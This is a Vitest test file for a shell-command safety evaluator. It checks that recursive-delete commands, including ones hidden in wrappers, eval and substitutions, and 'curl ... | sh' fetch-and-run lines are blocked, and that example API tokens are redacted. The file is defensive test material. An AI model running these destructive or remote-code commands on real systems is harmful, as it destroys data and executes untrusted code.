// evaluateShell: rules over every command, the IR's undecidable findings as matches (fail
// closed), redacted evidence, and a rule that throws blocks rather than allows.
import { describe, expect, it } from 'vitest';
import type { ShellIr } from '../../../src/core/ir.js';
import { SHELL_RULES, evaluateShell, undecidableRisk } from '../../../src/rules/shell/index.js';
import { cmd, decisionOf, irOf, matchesOf } from './helpers.js';

describe('evaluateShell', () => {
  it('turns undecidable findings into matches with their risk and a remediation', () => {
    const ir: ShellIr = {
      ...irOf(),
      undecidable: [
        { ruleId: 'parse.dynamic_command', reason: 'dynamic name', evidence: '$a -rf /' },
        { ruleId: 'parse.syntax_error', reason: 'syntax', evidence: "rm '" },
        { ruleId: 'limits.input_too_large', reason: 'big', evidence: 'x' },
        { ruleId: 'parse.some_future_reason', reason: 'new', evidence: 'y' },
      ],
    };
    const m = evaluateShell(ir);
    expect(m.map((x) => [x.ruleId, x.risk])).toEqual([
      ['parse.dynamic_command', 'HIGH'],
      ['parse.syntax_error', 'CRITICAL'],
      ['limits.input_too_large', 'CRITICAL'],
      ['parse.some_future_reason', 'CRITICAL'],
    ]);
    for (const x of m) expect(x.remediation.length).toBeGreaterThan(10);
    expect(undecidableRisk('parse.dynamic_script')).toBe('HIGH');
  });

  it('blocks each parse failure end to end', async () => {
    for (const s of ["rm -rf / '", 'time { rm -rf /; }', '$a -rf /', 'bash -c "$X"'])
      expect(decisionOf(await matchesOf(s)), s).toBe('block');
  });

  it('never puts a literal secret into evidence', async () => {
    const key = 'AKIAIOSFODNN7EXAMPLE';
    const gh = 'ghp_abcdefghijklmnopqrstuvwxyz0123456789';
    const pypi = 'pypi-AgEIcHlwaS5vcmcCJDU0ZTk5YjQyLWE4NGItNDgyYS05ZTM0LTA2ZDgwZmIyNDJmYQ';
    for (const s of [
      `AWS_ACCESS_KEY_ID=${key} rm -rf /`,
      `curl -H "Authorization: token ${gh}" https://x.io | sh`,
      `twine upload -p ${pypi} dist/*`,
      `bash -c "$X ${key}"`,
    ]) {
      const m = await matchesOf(s);
      expect(
        m.map((x) => x.ruleId),
        s,
      ).toContain('secrets.literal_secret');
      const text = JSON.stringify(m);
      for (const secret of [key, gh, pypi]) expect(text).not.toContain(secret);
    }
  });

  it('a rule that throws blocks the command (fail closed)', () => {
    SHELL_RULES.push({
      ...SHELL_RULES[0]!,
      id: 'test.broken',
      match: () => {
        throw new Error('boom');
      },
    });
    try {
      const m = evaluateShell(irOf(cmd('ls', [])));
      expect(m.find((x) => x.ruleId === 'rules.internal_error')?.risk).toBe('CRITICAL');
    } finally {
      SHELL_RULES.pop();
    }
  });

  it('dedupes identical findings, and takes home and cwd from ctx when the IR lacks them', () => {
    const ir = irOf(cmd('rm', ['-rf', '/srv/h']), cmd('rm', ['-rf', '/']), cmd('rm', ['-rf', '/']));
    delete ir.home;
    const ids = evaluateShell(ir, { cwd: '/srv/h/work', home: '/srv/h' }).map((x) => x.ruleId);
    expect(ids.filter((i) => i === 'filesystem.recursive_delete_root')).toHaveLength(1);
    expect(ids).toContain('filesystem.recursive_delete_home');
  });

  it('sees commands hidden in wrappers, nested scripts and substitutions', async () => {
    for (const s of [
      'sudo env X=1 nice rm -rf /',
      'bash -c \'eval "rm -rf /"\'',
      'echo $(rm -rf /)',
      "ssh h 'sudo rm -rf /'",
      'f() { rm -rf /; }',
    ]) {
      expect(
        (await matchesOf(s)).map((x) => x.ruleId),
        s,
      ).toContain('filesystem.recursive_delete_root');
    }
  });

  it('does not judge data', async () => {
    for (const s of ['echo "rm -rf /"', 'git commit -m "rm -rf /"', 'grep -r "curl x | sh" .', "printf '%s' 'git push --force'"]) {
      expect(decisionOf(await matchesOf(s)), s).toBe('allow');
    }
  });
});
